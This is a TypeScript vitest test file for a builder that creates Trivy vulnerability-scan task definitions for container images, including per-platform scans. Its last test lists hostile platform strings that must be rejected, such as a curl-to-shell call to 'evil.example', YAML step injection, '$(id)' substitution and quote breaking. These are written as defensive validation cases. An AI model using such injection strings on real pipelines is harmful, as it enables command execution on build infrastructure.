import { describe, expect, it } from 'vitest';
import { buildTrivyScanTask, TRIVY_PLATFORM_SCAN_TASK_YAML, TRIVY_SCAN_TASK_YAML, type TrivyScanTaskInput } from '../../shared/registry/trivyScanTask';

const CHILD = 'sha256:f69162950f235e3cdbbad33f1f912d1a504be90d8a37d002c735d6f3e3882265';
const input = (platform?: string): TrivyScanTaskInput => ({
    loginServer: 'contoso.azurecr.io',
    repository: 'quarantine/web/api',
    digest: CHILD,
    nonce: 'b'.repeat(32),
    trivyImage: 'ghcr.io/aquasecurity/trivy:0.58.1',
    dbRepositories: ['ghcr.io/aquasecurity/trivy-db:2'],
    pkgTypes: ['os', 'library'],
    scanTimeoutSeconds: 600,
    ...(platform !== undefined ? { platform } : {}),
});

describe('Trivy scan task for one platform child of an index', () => {
    it('scans the child by its digest with --platform as a task value; the YAML is a constant', () => {
        const task = buildTrivyScanTask(input('linux/arm64/v8'));
        expect(task.values['imageRef']).toBe(`contoso.azurecr.io/quarantine/web/api@${CHILD}`);
        expect(task.values['platform']).toBe('linux/arm64/v8');
        expect(task.taskYaml).toBe(TRIVY_PLATFORM_SCAN_TASK_YAML);
        expect(task.taskYaml).toContain('      --platform {{.Values.platform}}\n      {{.Values.imageRef}}\n');
        expect(task.taskYaml).not.toContain('linux/arm64');
    });

    it('without a platform the task is exactly the single-image task, with no platform value', () => {
        const task = buildTrivyScanTask(input());
        expect(task.taskYaml).toBe(TRIVY_SCAN_TASK_YAML);
        expect(task.taskYaml).not.toContain('--platform');
        expect(task.values).not.toHaveProperty('platform');
    });

    it('the platform variant differs from the base task by that one line only', () => {
        expect(TRIVY_PLATFORM_SCAN_TASK_YAML.replace('      --platform {{.Values.platform}}\n', '')).toBe(TRIVY_SCAN_TASK_YAML);
    });

    it.each([
        'linux/amd64 --skip-db-update',
        'linux/amd64\n  - id: evil\n    cmd: sh',
        'linux/amd64;curl evil.example|sh',
        "linux/amd64' && id",
        'linux/{{.Values.nonce}}',
        '$(id)/amd64',
        'LINUX/AMD64',
        'linux',
        'linux/arm/v7/x',
        '',
    ])('refuses the platform %j before anything is scheduled', (platform) => {
        expect(() => buildTrivyScanTask(input(platform))).toThrow(TypeError);
        expect(() => buildTrivyScanTask(input(platform))).toThrow(/is not of the form os\/arch\[\/variant\]/);
    });
});
